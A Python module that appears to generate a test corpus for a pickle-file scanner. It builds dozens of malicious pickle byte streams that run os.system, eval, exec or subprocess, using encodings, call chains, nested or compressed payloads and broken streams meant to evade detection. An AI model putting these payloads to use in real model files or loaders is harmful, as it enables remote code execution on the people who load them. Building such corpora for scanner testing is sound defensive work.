"""Forms of a pickle: encodings of the same call, chains that hide it, state that does it, streams that break after it.

Columns: class, file name, whether it runs code, content.
"""

from __future__ import annotations

import base64
import struct
import zlib
from typing import Any

from artifacts_assembler import CODE, COMMAND, EVAL, SYSTEM, Raw, call, named, pickled, unicode, value

_C = COMMAND.encode()
_getattr = named("builtins", "getattr")
_import = named("builtins", "__import__")
_os = call(_import, "os")
_ordered = call(named("collections", "OrderedDict"))
_loads = named("pickle", "loads")
_system = named("os", "system").opcodes


def _partial(function: Raw, *given: Any) -> Raw:
    return call(named("functools", "partial"), function, *given)


ENCODINGS: dict[str, bytes] = {
    "protocol-0": b"cos\nsystem\n(S'" + _C + b"'\ntR.",
    "protocol-0-unicode": b"cos\nsystem\n(V" + _C + b"\ntR.",
    "protocol-1": b"cos\nsystem\n(U" + bytes([len(_C)]) + _C + b"tR.",
    "protocol-2": b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(_C)) + _C + b"\x85R.",
    "protocol-4-frame": b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM.opcodes) + 1) + SYSTEM.opcodes + b".",
    "no-proto": SYSTEM.opcodes + b".",
    "inst": b"(S'" + _C + b"'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'" + _C + b"'\no.",
    "newobj": pickled(b"cos\nsystem\n" + value((COMMAND,)) + b"\x81"),
    "newobj-ex": pickled(b"cos\nsystem\n" + value((COMMAND,)) + b"}\x92"),
    "python-2-name": b"c__builtin__\neval\n(S'1'\ntR.",
    "python-2-module": b"ccommands\ngetoutput\n(S'true'\ntR.",
    "python-2-urllib": b"curllib2\nurlopen\n(S'http://canary.invalid'\ntR.",
    "short-binstring-global": b"U\x02osU\x06system\x93" + value((COMMAND,)) + b"R.",
    "string-global": b"S'os'\nS'system'\n\x93" + value((COMMAND,)) + b"R.",
    "escaped-string-global": b"S'o\\x73'\nS'\\163ystem'\n\x93" + value((COMMAND,)) + b"R.",
    "escaped-unicode-global": b"V\\u006fs\nVsy\\u0073tem\n\x93" + value((COMMAND,)) + b"R.",
    "double-quoted": b'S"os"\nS"system"\n\x93' + value((COMMAND,)) + b"R.",
    "memoized-global": b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93" + value((COMMAND,)) + b"R.",
    "memo-text": b"Vos\np5\n0Vsystem\np9\n0g5\ng9\n\x93" + value((COMMAND,)) + b"R.",
    "memo-odd-number": b"Vos\np 5 \n0Vsystem\np0009\n0g5\ng9\n\x93" + value((COMMAND,)) + b"R.",
    "memo-underscore": b"Vos\np1_0\n0Vsystem\np9\n0g10\ng9\n\x93" + value((COMMAND,)) + b"R.",
    "memo-overwritten": b"Vmath\np0\n0Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + value((COMMAND,)) + b"R.",
    "long-memo": b"Vos\nr\x00\x01\x00\x000Vsystem\nr\x01\x01\x00\x000j\x00\x01\x00\x00j\x01\x01\x00\x00\x93"
    + value((COMMAND,))
    + b"R.",
    "dup": b"\x80\x04\x8c\x06timeit2\x93" + value((CODE,)) + b"R.",
    "int-octal": b"I010\n0" + SYSTEM.opcodes + b".",
    "int-01": b"I01\n0" + SYSTEM.opcodes + b".",
    "int-hex": b"I0x1F\n0" + SYSTEM.opcodes + b".",
    "int-nul": b"I1\x00x\n0" + SYSTEM.opcodes + b".",
    "long-l": b"L1L\n0" + SYSTEM.opcodes + b".",
    "long-huge": b"L" + b"9" * 5000 + b"L\n0" + SYSTEM.opcodes + b".",
    "float-odd": b"F1e5\n0" + SYSTEM.opcodes + b".",
    "long4": b"\x8b\x01\x00\x00\x00\x010" + SYSTEM.opcodes + b".",
    "pop-mark": b"(K\x01K\x021" + SYSTEM.opcodes + b".",
    "pop-a-mark": b"(0" + SYSTEM.opcodes + b".",
    "deep-marks": b"(" * 3000 + b"0" * 3000 + SYSTEM.opcodes + b".",
    "in-a-list": b"\x80\x04](" + SYSTEM.opcodes + b"e.",
    "as-dict-key": b"\x80\x04}(" + SYSTEM.opcodes + b"K\x01u.",
    "in-a-set": b"\x80\x04\x8f(" + SYSTEM.opcodes + b"\x90.",
    "in-a-frozenset": b"\x80\x04(" + SYSTEM.opcodes + b"\x91.",
    "as-persistent-id": b"\x80\x04" + SYSTEM.opcodes + b"Q.",
    "as-state": b"\x80\x04" + _ordered.opcodes + SYSTEM.opcodes + b"b.",
    "popped": b"\x80\x04" + SYSTEM.opcodes + b"0N.",
    "proto-changes": b"\x80\x02\x80\x05\x80\x00" + SYSTEM.opcodes + b".",
    "non-utf8-string": b"U\x01\xff0" + SYSTEM.opcodes + b".",
    "extension-registered": pickled(
        call(named("copyreg", "add_extension"), "os", "system", 7).opcodes + b"0\x82\x07" + value((COMMAND,)) + b"R"
    ),
    "several-streams": b"N." * 3 + SYSTEM.opcodes + b".",
    "after-a-safe-one": pickled(value({"weights": [1, 2]})) + pickled(SYSTEM),
    "after-padding": pickled(value([1])) + b"\0" * 4096 + pickled(SYSTEM),
    "ten-million-nothing": b"\x80\x04" + b"N0" * 100_000 + SYSTEM.opcodes + b".",
}

CHAINS: dict[str, bytes] = {
    "getattr": pickled(call(call(_getattr, _os, "system"), COMMAND)),
    "getattr-twice": pickled(call(call(_getattr, call(_getattr, _os, "path"), "os"), COMMAND)),
    "attrgetter": pickled(call(call(call(named("operator", "attrgetter"), "system"), _os), COMMAND)),
    "attrgetter-dotted": pickled(call(call(named("operator", "attrgetter"), "__class__.__base__"), 1)),
    "methodcaller": pickled(call(call(named("operator", "methodcaller"), "system", COMMAND), _os)),
    "_operator": pickled(call(call(named("_operator", "methodcaller"), "system", COMMAND), _os)),
    "itemgetter": pickled(
        call(call(named("operator", "itemgetter"), "eval"), call(_getattr, named("builtins", "int"), "__builtins__"))
    ),
    "partial": pickled(call(_partial(named("os", "system"), COMMAND))),
    "partial-of-partial": pickled(call(_partial(_partial(named("os", "system")), COMMAND))),
    "partial-by-state": pickled(
        _partial(named("builtins", "len")).opcodes + value((named("os", "system"), (COMMAND,), {}, None)) + b"b)R"
    ),
    "reduce": pickled(call(named("functools", "reduce"), named("os", "system"), [COMMAND, 1])),
    "map": pickled(call(named("builtins", "list"), call(named("builtins", "map"), named("os", "system"), [COMMAND]))),
    "filter": pickled(call(named("builtins", "set"), call(named("builtins", "filter"), named("os", "system"), ["x"]))),
    "starmap": pickled(call(named("itertools", "starmap"), named("os", "system"), [(COMMAND,)])),
    "iter-two": pickled(call(named("builtins", "next"), call(named("builtins", "iter"), named("os", "system"), 1))),
    "defaultdict": pickled(call(named("collections", "defaultdict"), named("os", "abort"))),
    "sorted-key": pickled(
        named("builtins", "sorted").opcodes + value(([COMMAND],)) + value({"key": named("os", "system")}) + b"\x92"
    ),
    "operator-call": pickled(call(named("operator", "call"), named("os", "system"), COMMAND)),
    "import-module": pickled(call(call(_getattr, call(named("importlib", "import_module"), "os"), "system"), COMMAND)),
    "pydoc-locate": pickled(call(call(named("pydoc", "locate"), "os.system"), COMMAND)),
    "resolve-name": pickled(call(call(named("pkgutil", "resolve_name"), "os:system"), COMMAND)),
    "ufunc-reconstruct": pickled(call(call(named("numpy.core", "_ufunc_reconstruct"), "os", "system"), COMMAND)),
    "rebuild-from-type": pickled(
        call(named("torch._tensor", "_rebuild_from_type_v2"), named("os", "system"), None, (COMMAND,), None)
    ),
    "newobj-helper": pickled(call(named("copyreg", "__newobj__"), named("subprocess", "Popen"), ["true"])),
    "reconstructor": pickled(call(named("copyreg", "_reconstructor"), named("subprocess", "Popen"), None, None)),
    "builtins-dict": pickled(call(_getattr, call(_getattr, named("builtins", "str"), "__class__"), "__subclasses__")),
    "globals-get": pickled(
        call(call(_getattr, named("builtins", "dict"), "get"), call(named("builtins", "globals")), "__builtins__")
    ),
    "type-three": pickled(call(named("builtins", "type"), "A", (), {"__setstate__": named("builtins", "eval")})),
    "method-type": pickled(call(named("types", "MethodType"), named("os", "system"), COMMAND)),
    "nested-loads": pickled(call(_loads, pickled(SYSTEM))),
    "nested-zlib": pickled(call(_loads, call(named("zlib", "decompress"), zlib.compress(pickled(SYSTEM))))),
    "nested-base64": pickled(
        call(_loads, call(named("base64", "b64decode"), base64.b64encode(pickled(SYSTEM)).decode()))
    ),
    "nested-codecs": pickled(
        call(_loads, call(named("_codecs", "encode"), pickled(SYSTEM).decode("latin-1"), "latin1"))
    ),
    "nested-torch": pickled(call(named("torch.storage", "_load_from_bytes"), pickled(SYSTEM))),
    "nested-torch-stored": pickled(
        _ordered.opcodes
        + value({"extend": named("torch.storage", "_load_from_bytes")})
        + b"b("
        + value(pickled(SYSTEM))
        + b"e"
    ),
    "encode-zlib": pickled(call(_loads, call(named("_codecs", "decode"), zlib.compress(pickled(SYSTEM)), "zlib"))),
    "code-object": pickled(call(call(named("types", "FunctionType"), call(named("marshal", "loads"), b"N"), {}))),
    "memmap": pickled(call(named("numpy", "memmap"), "canary", "uint8", "w+", 0, (1,))),
    "computed-name": pickled(
        call(named("builtins", "str"), "os").opcodes
        + call(named("builtins", "str"), "system").opcodes
        + b"\x93"
        + value((COMMAND,))
        + b"R"
    ),
    "computed-arguments": pickled(
        _getattr.opcodes + call(named("builtins", "tuple"), [_os, "system"]).opcodes + b"R" + value((COMMAND,)) + b"R"
    ),
    "computed-attribute": pickled(call(call(_getattr, _os, call(named("builtins", "str"), "system")), COMMAND)),
    "bytes-from-numbers": pickled(
        call(named("torch.storage", "_load_from_bytes"), call(named("builtins", "bytes"), list(pickled(SYSTEM))))
    ),
    "bytes-changed-in-place": pickled(
        call(
            named("torch.storage", "_load_from_bytes"),
            call(
                named("builtins", "bytes"),
                Raw(
                    value([0] * len(pickled(SYSTEM)))
                    + b"("
                    + b"".join(value(place) + value(byte) for place, byte in enumerate(pickled(SYSTEM)))
                    + b"u"
                ),
            ),
        )
    ),
    "bytearray-extended": pickled(
        call(
            named("torch.storage", "_load_from_bytes"),
            Raw(b"\x96" + bytes(8) + b"(" + b"".join(map(value, pickled(SYSTEM))) + b"e"),
        )
    ),
    "module-in-a-module": pickled(call(call(_getattr, named("random", "_os"), "putenv"), "A", "b")),
    "torch-attribute": pickled(call(call(_getattr, named("torch._C", "_VariableFunctionsClass"), "from_file"), "c")),
}

DOTTED: dict[str, bytes] = {
    f"{module}.{name}": pickled(call(named(module, name), COMMAND))
    for module, name in (
        ("torch", "os.system"), ("torch", "serialization.os.system"), ("collections", "abc.sys.modules"),
        ("collections", "__builtins__.get"), ("numpy", "f2py.os.system"), ("numpy", "core.os.popen"),
        ("pathlib", "os.system"), ("logging", "os.system"), ("random", "_os.system"), ("uuid", "os.system"),
        ("datetime", "sys.modules"), ("builtins", "str.__class__.mro"), ("torch.nn", "modules.os.system"),
        ("sklearn", "os.system"), ("joblib", "os.system"), ("pandas", "io.common.os.system"),
        ("torch.storage", "io.open"), ("typing", "sys.exit"), ("decimal", "sys.exit"),
    )
}  # fmt: skip
DOTTED |= {
    f"as-attribute-{module}.{name}": pickled(call(call(_getattr, named(module, name), attribute), COMMAND))
    for module, name, attribute in (
        ("torch", "os", "system"), ("shutil", "os", "system"), ("random", "_os", "system"),
        ("numpy.lib.npyio", "os", "system"), ("torch.serialization", "pickle", "loads"),
        ("posixpath", "os", "popen"), ("torch", "_utils", "sys"),
    )
}  # fmt: skip

STATE: dict[str, bytes] = {
    "module-attributes": b"ctorch\n_utils\n}Vbuiltins\n" + named("builtins", "exec").opcodes + b"sb.",
    "class-attributes": pickled(named("collections", "OrderedDict").opcodes + value({"a": 1}) + b"b"),
    "function-attributes": pickled(named("numpy", "mean").opcodes + value((None, {"__wrapped__": 1})) + b"b"),
    "append-to-path": pickled(named("sys", "path").opcodes + value("/canary") + b"a"),
    "extend-path": pickled(named("sys", "path").opcodes + b"(" + value("/canary") + b"e"),
    "environment": pickled(named("os", "environ").opcodes + value("CANARY") + value("1") + b"s"),
    "modules": pickled(named("sys", "modules").opcodes + b"(" + value("os") + b"Nu"),
    "append-method": pickled(
        _ordered.opcodes + value({"append": named("builtins", "eval")}) + b"b" + value(CODE) + b"a"
    ),
    "setstate": pickled(
        _ordered.opcodes + value({"__setstate__": named("builtins", "eval")}) + b"b" + value(CODE) + b"b"
    ),
    "add-method": pickled(_ordered.opcodes + value({"add": named("os", "system")}) + b"b(" + value(COMMAND) + b"\x90"),
    "slots-state": pickled(_ordered.opcodes + value((None, {"extend": named("os", "system")})) + b"b"),
    "bdb": pickled(named("bdb", "Bdb").opcodes + b")\x81" + value({"fncache": {}}) + b"b"),
}

BREAKS: dict[str, bytes] = {
    "no-stop": SYSTEM.opcodes,
    "unknown-opcode": b"\x80\x04" + SYSTEM.opcodes + b"\xff.",
    "cut-in-a-string": b"\x80\x04" + SYSTEM.opcodes + b"X\xff\xff\xff\x7fabc",
    "missing-memo": b"\x80\x04" + SYSTEM.opcodes + b"h\x63.",
    "stack-underflow": b"\x80\x04" + SYSTEM.opcodes + b"000.",
    "bad-protocol": SYSTEM.opcodes + b"\x80\x40.",
    "bad-utf8": SYSTEM.opcodes + b"\x8c\x02\xff\xfe.",
    "type-confusion": SYSTEM.opcodes + b"K\x2aVos\n\x93.",
    "odd-items": SYSTEM.opcodes + b"}(K\x01u.",
    "frame-too-long": SYSTEM.opcodes + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
    "negative-length": SYSTEM.opcodes + b"T\xff\xff\xff\xff.",
    "no-mark": SYSTEM.opcodes + b"t.",
    "bad-put": SYSTEM.opcodes + b"p-1\n.",
    "bad-extension": SYSTEM.opcodes + b"\x82\x00.",
    "cut-in-a-global": SYSTEM.opcodes + b"cos\nsys",
    "trailing-text": SYSTEM.opcodes + b".this is not a pickle",
    "trailing-random": pickled(SYSTEM) + bytes(range(128, 256)),
}

UNTOLD: dict[str, bytes] = {
    "unknown-class": pickled(named("some_library.models", "Model").opcodes + b")\x81"),
    "extension-code": b"\x80\x02\x82\x05)R.",
    "call-of-a-persistent": b"\x80\x02" + value(("storage", 1)) + b"Q)R.",
    "broken-and-empty": b"\x80\x04](K\x01",
    "trailing-bytes": pickled(value([1])) + bytes(range(200, 256)),
}

FORMS: tuple[tuple[str, str, bool, bytes], ...] = (
    *(("encoding", f"{name}.pkl", True, content) for name, content in ENCODINGS.items()),
    *(("chain", f"{name}.pkl", True, content) for name, content in CHAINS.items()),
    *(("dotted", f"{name}.pkl", True, content) for name, content in DOTTED.items()),
    *(("state", f"{name}.pkl", True, content) for name, content in STATE.items()),
    *(("break", f"{name}.pkl", True, content) for name, content in BREAKS.items()),
    *(("untold", f"{name}.pkl", False, content) for name, content in UNTOLD.items()),
    ("encoding", "eval.pkl", True, pickled(EVAL)),
    ("encoding", "long-strings.pkl", True, pickled(unicode("x" * 300) + b"0" + SYSTEM.opcodes)),
)
